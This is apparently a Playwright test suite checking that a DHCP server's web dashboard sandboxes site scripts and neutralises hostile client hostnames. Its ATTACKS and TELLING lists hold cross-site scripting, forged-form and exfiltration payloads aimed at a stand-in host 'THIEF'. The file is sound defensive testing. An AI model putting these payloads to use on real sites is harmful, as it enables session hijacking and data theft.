"""What a site's script shows, used by people; and what a client's name makes of a script that prints it as it is."""

import select
import socket
import urllib.request

import pytest
from playwright.sync_api import expect

from app.services.access import Role
from dhcpcore.control import ControlClient
from tests.browser.site import OFFICE_RELAY

pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]


def frame(page, name):
    return page.frame_locator(f"iframe[title='site {name}']")


class TestDashboard:
    def test_elements_are_shown_in_their_order_and_what_fails_says_so(self, opened):
        page, witness = opened("/")
        expect(frame(page, "counter").locator("#count")).to_contain_text("packets")
        expect(frame(page, "broken").get_by_role("alert")).to_contain_text("The script failed here")
        headings = page.locator(".script-shown:visible h2")
        expect(headings).to_have_text([
            "site | counter", "site | broken", "statistics | packets", "activity | latest packets", "core | events"])
        expect(page.locator("#script-log .log-line").first).to_be_visible()
        assert (witness.troubles, witness.foreign) == ([], [])

    def test_a_frame_is_as_high_as_what_is_in_it_and_has_the_pages_colours(self, opened):
        page, _ = opened("/")
        inner = frame(page, "counter")
        expect(inner.locator("#count")).to_have_css("font-weight", "700")
        expect(inner.locator("html")).to_have_attribute("data-theme", "light")
        light = inner.locator("body").evaluate("(it) => getComputedStyle(it).backgroundColor")
        height = page.locator("iframe[title='site counter']").bounding_box()["height"]
        assert 40 < height < 150
        page.get_by_role("button", name="Dark").click()
        expect(inner.locator("html")).to_have_attribute("data-theme", "dark")
        assert inner.locator("body").evaluate("(it) => getComputedStyle(it).backgroundColor") != light
        page.get_by_role("button", name="As the system").click()

    def test_its_scripts_run_without_an_origin(self, opened):
        page, _ = opened("/")
        expect(frame(page, "counter").locator("body")).to_have_attribute("data-ran", "null")

    def test_a_link_opens_a_tab_with_the_answer(self, opened):
        page, _ = opened("/")
        with page.context.expect_page() as opening:
            frame(page, "counter").get_by_role("link", name="As text").click()
        other = opening.value
        expect(other.locator("body")).to_contain_text("packets")
        other.close()

    def test_a_link_to_another_host_is_asked_about(self, opened):
        page, witness = opened("/")
        frame(page, "counter").get_by_role("link", name="Elsewhere").click()
        page.wait_for_function("() => document.readyState === 'complete'")
        tell = [one for one in witness.troubles if one.startswith("dialog")]
        assert len(tell) == 1
        assert "http://192.0.2.99/" in tell[0]
        assert len(page.context.pages) == 1, "the reader said no"

    def test_the_ready_scripts_show_a_picture_and_who_was_there(self, opened, site):
        assert site.ask(OFFICE_RELAY, 59, waits_s=3) is not None
        page, witness = opened("/")
        inner = page.frame_locator("iframe[title='statistics packets']")
        expect(inner.get_by_role("img", name="Packets in five minutes")).to_be_visible()
        assert inner.locator("rect:has(title)").last.bounding_box()["height"] > 1
        expect(page.frame_locator("iframe[title='activity latest packets']").locator("body")).to_contain_text(
            "02:00:5e:00:09:3b")
        assert (witness.troubles, witness.foreign) == ([], [])

    def test_a_viewer_sees_elements_and_not_the_log(self, opened):
        page, _ = opened("/", role=Role.VIEWER)
        expect(frame(page, "counter").locator("#count")).to_be_visible()
        expect(page.locator("#script-log")).to_have_count(0)


class TestMethods:
    def test_a_page_of_the_scripts_own_from_the_menu(self, opened):
        page, witness = opened("/leases")
        page.get_by_role("navigation").get_by_role("link", name="Greeting").click()
        expect(page.frame_locator("iframe[title=Greeting]").locator("#said")).to_have_text("Hello nobody")
        page.goto("/site/page?to=%3Cb%3E")
        expect(page.frame_locator("iframe[title=Greeting]").locator("#said")).to_have_text("Hello <b>")
        assert (witness.troubles, witness.foreign) == ([], [])

    def test_a_form_of_its_page_asks_again_in_a_tab(self, opened):
        page, _ = opened("/site/page")
        inner = page.frame_locator("iframe[title=Greeting]")
        inner.get_by_role("textbox").fill("you & me")
        with page.context.expect_page() as opening:
            inner.get_by_role("button", name="Greet").click()
        other = opening.value
        expect(other.frame_locator("iframe[title=Greeting]").locator("#said")).to_have_text("Hello you & me")
        other.close()

    def test_a_form_that_posts_is_sent_when_the_reader_says_so(self, opened):
        page, witness = opened("/site/notes")
        inner = page.frame_locator("iframe[title=Notes]")
        inner.get_by_role("textbox").fill("a&b = c")
        inner.get_by_role("button", name="Note").click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_contain_text("To /site/notes, in your name: text = a&b = c")
        dialog.get_by_role("button", name="Cancel").click()
        expect(inner.locator("#noted")).to_have_text("")
        inner.get_by_role("button", name="Note").click()
        dialog.get_by_role("button", name="Send").click()
        expect(inner.locator("#noted")).to_have_text("a&b = c")
        inner.get_by_role("button", name="Lock").click()
        expect(dialog).to_contain_text("confirmed = yes, door = front")
        dialog.get_by_role("button", name="Send").click()
        expect(page.frame_locator("iframe[title=Lock]").locator("#locked")).to_have_text(
            "application/x-www-form-urlencoded confirmed=yes&door=front")
        assert (witness.troubles, witness.foreign) == ([], [])

    def test_it_reaches_no_page_of_the_appliances_own_and_nothing_secure_for_a_viewer(self, opened):
        page, witness = opened("/site/notes", role=Role.VIEWER)
        inner = page.frame_locator("iframe[title=Notes]")
        inner.get_by_role("button", name="Revoke").click()
        inner.get_by_role("button", name="Lock").click()
        page.wait_for_function("() => document.readyState === 'complete'")
        told = [one for one in witness.troubles if one.startswith("dialog")]
        assert [path for path in ("/account/sessions/revoke-others", "/site/lock") if path in "".join(told)] == [
            "/account/sessions/revoke-others", "/site/lock"]
        expect(page.get_by_role("dialog")).to_have_count(0)
        assert page.url.endswith("/site/notes")

    def test_what_acts_asks_first_and_does_not_do_it_again_when_the_page_is_loaded_again(self, opened):
        page, witness = opened("/leases")
        page.get_by_role("navigation").get_by_role("button", name="Erase").click()
        page.get_by_role("dialog").get_by_role("button", name="Do it").click()
        expect(page.frame_locator("iframe[title=Erase]").locator("body")).to_contain_text("Erased 1 times")
        expect(frame(page, "counter").locator("#count")).to_be_visible()
        assert page.url.endswith("/")
        assert not page.url.endswith("/site/erase")
        page.reload()
        expect(page.locator("iframe[title=Erase]")).to_have_count(0)
        page.goto("/site/erase")
        page.get_by_role("button", name="Yes, do it").click()
        expect(page.frame_locator("iframe[title=Erase]").locator("body")).to_contain_text("Erased 2 times")
        assert (witness.troubles, witness.foreign) == ([], [])

    def test_a_raw_page_runs_nothing(self, opened):
        page, _ = opened("/site/raw.html")
        expect(page.locator("p")).to_have_text("raw")
        assert page.title() == ""

    def test_what_is_secure_is_for_operators(self, opened):
        page, _ = opened("/site/secret")
        expect(page.locator("body")).to_have_text("the secret")
        page, _ = opened("/site/secret", role=Role.VIEWER)
        expect(page.locator("main")).to_contain_text("operator")
        assert "the secret" not in page.content()

    def test_a_program_of_before_goes_on_with_the_scripts_password(self, site):
        """urllib's own Digest, over gunicorn."""
        handler = urllib.request.HTTPDigestAuthHandler()
        handler.add_password("staticDHCPd", site.url, "monitor", "an old password")
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), handler)
        for path in ("/site/secret", "/site/secret?a=%20b&c=d"):
            with opener.open(site.url + path, timeout=10) as answer:
                assert answer.read() == b"the secret"

    def test_all_are_listed_with_the_one_that_clashes(self, opened):
        page, _ = opened("/scripts")
        row = page.locator("tr", has_text="/leases/ours")
        expect(row).to_contain_text("does not answer")
        page.get_by_role("button", name="Reinitialise", exact=True).click()
        page.get_by_role("dialog").get_by_role("button", name="Reinitialise").click()
        expect(page.get_by_role("status").first).to_contain_text("has reinitialised")


#: What a name tries; each says in the frame how it went.
ATTACKS = (
    # The page around it, and its address.
    "<script>try{parent.document.title='owned'}catch(e){document.body.dataset.parent='kept'}</script>",
    "<script>try{top.location='/owned'}catch(e){document.body.dataset.top='kept'}</script>",
    # What vouches for the reader, and what the browser keeps.
    "<script>try{document.cookie}catch(e){document.body.dataset.cookie='kept'}</script>",
    "<script>try{localStorage}catch(e){document.body.dataset.storage='kept'}</script>",
    "<script>fetch('/api/v1/users',{credentials:'include'}).catch(()=>{document.body.dataset.fetch='kept'})</script>",
    # The reader's attention.
    "<img src=x onerror=\"alert(1);confirm(2);document.body.dataset.alert='kept'\">",
    "<script>document.body.dataset.opened=String(window.open('/owned'))</script>",
    "<script>for(a of ['/owned','http://192.0.2.99'])parent.postMessage({lessor:'open',address:a},'*')</script>",
    # A form in the reader's name.
    "<script>parent.postMessage({lessor:'send',address:'/site/erase',text:'confirmed=yes'},'*')</script>",
    "<form id=f method=post target=_top action=/account/sessions/revoke-others></form><script>f.submit()</script>",
)
KEPT = {"parent": "kept", "top": "kept", "cookie": "kept", "storage": "kept", "fetch": "kept", "alert": "kept",
        "opened": "null"}
#: Chromium has no word against it in a policy, and minds Connection-Allowlist from 152 on.
RTC = ("p=new RTCPeerConnection({iceServers:[{urls:'stun:THIEF'}]});p.createDataChannel('x');"
       "p.createOffer().then(o=>p.setLocalDescription(o))")
#: How one tries to tell somebody elsewhere, at THIEF, what it sees.
TELLING = {
    "picture": "<img src=http://THIEF/x><script>new Image().src='http://THIEF/'+1</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://THIEF/'>",
    "location": "<script>location='http://THIEF/?'+document.body.textContent.length</script>",
    "object": "<object data=http://THIEF/></object><embed src=http://THIEF/>",
    "base": "<base href=http://THIEF/><img src=x><link rel=stylesheet href=x><script src=x></script>",
    "form": "<form id=f action=http://THIEF/></form><script>f.submit()</script>",
    "beacon": "<script>navigator.sendBeacon('http://THIEF/');new WebSocket('ws://THIEF/')</script>",
    "call": f"<script>{RTC}</script>",
    "call from a frame": f'<iframe srcdoc="<script>{RTC}</script>"></iframe>',
    "hint": "<link rel=preconnect href=http://THIEF><link rel=prefetch href=http://THIEF/x>",
}


@pytest.fixture
def called(site):
    """Clients say what is given; afterwards the script has forgotten it."""
    def call(*names):
        for number, name in enumerate(names):
            assert len(name) < 256
            site.ask(OFFICE_RELAY, 60 + number, hostname=name.encode())

    yield call
    ControlClient(site.settings.control_socket).call("script-reinitialise")


@pytest.fixture
def thief():
    """Somebody elsewhere who listens."""
    with socket.socket() as listening, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        listening.bind(("127.0.0.9", 0))
        listening.listen()
        datagrams.bind(listening.getsockname())
        yield listening, datagrams


def heard(thief):
    """What came.  Chromium may open a connection before it looks at the policy, and says nothing on it."""
    listening, datagrams = thief
    said = b""
    while select.select([listening], [], [], 0)[0]:
        with listening.accept()[0] as connection:
            if select.select([connection], [], [], 0.3)[0]:
                said += connection.recv(4096)
    while select.select([datagrams], [], [], 0)[0]:
        said += datagrams.recv(4096)
    return said


class TestAHostileClient:
    def test_its_name_runs_nothing_that_the_administrator_could_do(self, opened, called):
        called(*ATTACKS)
        page, witness = opened("/")
        title, tabs = page.title(), len(page.context.pages)
        shown = frame(page, "names").locator("body")
        expect(frame(page, "names").locator("li")).to_have_count(len(ATTACKS))
        for name, result in KEPT.items():
            expect(shown).to_have_attribute(f"data-{name}", result)
        assert (page.title(), len(page.context.pages)) == (title, tabs)
        assert page.url.rstrip("/") == page.evaluate("location.origin")
        expect(page.get_by_role("heading", name="Busiest pools")).to_be_visible()
        assert [one for one in witness.troubles if one.startswith("dialog")] == []
        page.goto("/account")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        assert "/login" not in page.url, "the session is what it was"

    @pytest.mark.parametrize("way", sorted(TELLING))
    def test_its_name_tells_nobody_elsewhere(self, opened, called, thief, way):
        host = "{}:{}".format(*thief[0].getsockname())
        called(TELLING[way].replace("THIEF", host))
        page, witness = opened("/")
        expect(frame(page, "counter").locator("#count")).to_be_visible()
        expect(frame(page, "broken").get_by_role("alert")).to_be_visible()
        page.wait_for_load_state("networkidle")
        if "call" in way:
            page.wait_for_timeout(500)
            expect(frame(page, "names").locator("iframe")).to_have_count(0)
        elif way not in {"hint", "base"}:  # The page's own base goes first.
            assert any(host in one for one in (*witness.foreign, *witness.troubles)), "it was tried"
        assert heard(thief) == b""

    def test_an_element_looked_at_by_itself_is_in_the_same_sandbox(self, opened, called, site):
        called(ATTACKS[2])
        number = next(one["number"] for one in ControlClient(site.settings.control_socket).call("script-registry")[
            "elements"] if one["name"] == "names")  # fmt: skip
        page, _ = opened(f"/scripts/elements/{number}")
        expect(page.locator("body")).to_have_attribute("data-cookie", "kept")
        assert page.evaluate("self.origin") == "null"
